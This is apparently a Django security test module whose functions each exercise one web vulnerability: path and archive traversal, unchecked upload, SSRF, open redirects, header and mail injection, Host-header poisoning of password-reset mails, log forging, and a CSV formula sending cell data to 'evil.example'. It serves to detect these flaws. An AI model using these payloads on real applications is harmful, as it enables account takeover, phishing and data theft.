"""Files, other servers, answers and mails: where something is read from or sent to that was not meant."""

import csv
import email
import io
import tarfile

from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.utils.http import parse_header_parameters
from hooks.models import Webhook
from servers import Inside, Mailbox, serving
from visitor import OWN, OWNER, PASSWORD, PROOF, READER, TAKEN
from visitor import exploit, give_password, logged, organisation, proof_in, taken

# -- files and other servers -------------------------------------------------------------------------------------------


@exploit("path-traversal", "documents/views.py", "stock")
def stock(site):
    """Any file of the server."""
    site.honest(site.get("documents:stock", {"name": "minutes.txt"}).shown, "a text of the stock is shown")
    return proof_in(site.get("documents:stock", {"name": "../../proof.txt"}, refusal=404).shown)


@exploit("archive-traversal", "documents/archive.py", "unpack")
def archive(site):
    """A file of one's own, anywhere on the server."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name in ("notes.txt", str(TAKEN.absolute())):
            member = tarfile.TarInfo(name)
            member.size = len(PROOF)
            tar.addfile(member, io.BytesIO(PROOF.encode()))
    site.post("documents:import", {"archive": SimpleUploadedFile("a.tar", out.getvalue())})
    site.honest("notes.txt" in site.get("documents:index").shown, "a text of an archive becomes a document")
    return taken()


@exploit("unchecked-upload", "documents/forms.py", "UploadForm")
def program(site):
    """A program among the documents."""
    site.honest(site.upload("a.txt", b"text"), "a text is taken")
    made = site.upload("SETUP.EXE", b"MZ\x90\0")
    return made.filename if made else ""


def reached(answer):
    """What the page holds that only this machine can reach, or that it was called at all."""
    return proof_in(answer.shown) or (f"called: {Inside.called}" if Inside.called else "")


@exploit("ssrf", "hooks/views.py", "unfurl")
def unfurl(site):
    """A page that only the server can reach."""
    # In the query and in the body: one site reads the one, one the other.
    Inside.called.clear()
    answer = site.post("hooks:unfurl", {"url": site.url}, query={"url": site.url})
    site.honest("title" in answer.json(), "the answer has a title, if an empty one")
    return reached(answer)


@exploit("ssrf", "core/fetch.py", "fetch")
def fetch(site):
    """What a server answers that only the server can reach, as the delivery of a webhook."""
    Inside.called.clear()
    site.post("hooks:create", {"url": site.url, "secret": "between us", "active": "on"})
    hook = Webhook.objects.filter(url=site.url).first()
    # Where the form has refused it, one that is there from an earlier day.
    hook = hook or Webhook.objects.create(organisation=organisation(OWN), url=site.url, secret="between us")
    site.post("hooks:test", args=[hook.pk])
    answer = site.get("hooks:deliveries", args=[hook.pk])
    site.honest(hook.deliveries.count() == 1, "a test makes a delivery")
    return reached(answer)


# -- answers and mails -------------------------------------------------------------------------------------------------


@exploit("open-redirect", "core/views.py", "go")
def go(site):
    """A link of this site that leads to another."""

    def follow(to):
        return site.get("core:go", {"next": to}, person=None)

    site.honest(follow("/help/documents/").headers.get("Location") == "/help/documents/", "a link within the site")
    return elsewhere(follow("https://evil.example/"))


@exploit("open-redirect", "accounts/views.py", "login_view")
def login(site):
    """A login that leads to another site."""
    give_password(READER)

    def log_in(to):
        return site.login(READER, PASSWORD, next=to)

    site.honest(log_in("/help/documents/").headers.get("Location") == "/help/documents/", "a login leads on")
    return elsewhere(log_in("https://evil.example/"))


def elsewhere(answer):
    return answer["Location"] if answer["Location"].startswith("https://evil.example") else ""


def saved_as(answer):
    """The name under which a browser saves an answer (RFC 6266)."""
    return parse_header_parameters(answer["Content-Disposition"])[1].get("filename", "")


@exploit("header-injection", "accounts/views.py", "export")
def export(site):
    """The name of a downloaded file, so its kind, by one's own name."""
    site.honest(saved_as(site.get("accounts:export")).endswith(".json"), "the file is JSON")
    site.honest(site.profile(display_name="x\"; filename*=UTF-8''setup.hta; x=\""), "a name is changed")
    name = saved_as(site.get("accounts:export"))
    return name if name == "setup.hta" else ""


@exploit("header-injection", "documents/views.py", "download")
def download_name(site):
    """The name of a downloaded file, so its kind, by the name of an uploaded one that the check has let through."""
    made = site.upload("plan.txt", b"text")
    site.honest(saved_as(site.get("documents:download", args=[made.pk])) == "plan.txt", "a file keeps its name")
    made = site.upload("plan.txt; filename*=UTF-8''setup.hta; x.txt", b"text")
    site.honest(made, "a text is taken under that name")
    name = saved_as(site.get("documents:download", args=[made.pk]))
    return name if name == "setup.hta" else ""


def poisoned(site, *args, **kwargs):
    """The address in a mail that came from the Host header of whoever had it sent."""

    def link(**headers):
        mail.outbox.clear()
        site.post(*args, **kwargs, headers=headers)
        site.honest(len(mail.outbox) == 1, "a mail goes out")
        return mail.outbox[0].alternatives[0][0].split('href="')[1].split('"')[0]

    site.honest(link().startswith("http"), "a link is in the mail")
    to = link(Host="localhost:6666")
    return to if "localhost:6666" in to else ""


@exploit("host-poisoning", "accounts/views.py", "reset")
def reset(site):
    """A mail to somebody else whose link brings the new password's token to the attacker."""
    return poisoned(site, "accounts:reset", {"email": OWNER}, person=None)


@exploit("host-poisoning", "accounts/views.py", "signup")
def signup(site):
    """A mail to somebody else whose link leads to the attacker."""
    return poisoned(site, "accounts:signup", {"email": "new@nowhere.example"}, person=None)


@exploit("host-poisoning", "orgs/views.py", "invite")
def invite(site):
    """An invitation whose link leads to the attacker."""
    return poisoned(site, "orgs:invite", {"email": "new@nowhere.example", "role": "reader"})


@exploit("host-poisoning", "billing/views.py", "remind")
def remind(site):
    """A reminder whose link leads to the attacker."""
    return poisoned(site, "billing:remind", args=[site.invoice().pk])


@exploit("mail-injection", "core/mail.py", "to_support")
def contact(site):
    """Headers of one's own in a mail of the site, other addressees among them."""
    with serving(Mailbox) as (host, port), override_settings(EMAIL_HOST=host, EMAIL_PORT=port):

        def write(subject):
            mail.outbox.clear()
            Mailbox.heard.clear()
            words = {"subject": subject, "email": "v@nowhere.example", "message": "Good day"}
            site.post("core:contact", words, person=None)
            texts = Mailbox.heard + [sent.message().as_bytes() for sent in mail.outbox]
            return email.message_from_bytes(texts[0]) if texts else email.message.Message()

        site.honest("[contact] hello" in write("hello").get("Subject", ""), "a message reaches the support")
        return write("hello\nBcc: everybody@evil.example").get("Bcc", "")


@exploit("log-injection", "documents/views.py", "search")
def log_search(site):
    """A line in the log that the site has not written."""
    return forged(site, "documents:search", "q")


@exploit("log-injection", "orgs/views.py", "contacts")
def log_contacts(site):
    """A line in the log that the site has not written."""
    return forged(site, "orgs:contacts", "name")


def forged(site, route, name):
    with logged() as line:
        site.get(route, {name: "x\nWARNING login of admin"})
    return line("WARNING login of admin")


@exploit("log-injection", "accounts/views.py", "login_view")
def log_login(site):
    """A line in the log that the site has not written, by somebody without an account."""
    with logged() as line:
        site.honest(site.login("x\nWARNING login of admin", "no").status_code == 200, "nobody is refused")
    return line("WARNING login of admin")


@exploit("csv-injection", "orgs/csvfile.py", "response")
def formula(site):
    """A formula in the table that an owner opens."""
    site.invoice(note='=HYPERLINK("https://evil.example/?"&A1)')
    rows = list(csv.reader(io.StringIO(site.get("billing:export").shown)))
    site.honest(any("A-900" in row for row in rows), "the table has the invoice")
    return next((cell for row in rows for cell in row if cell.startswith("=")), "")
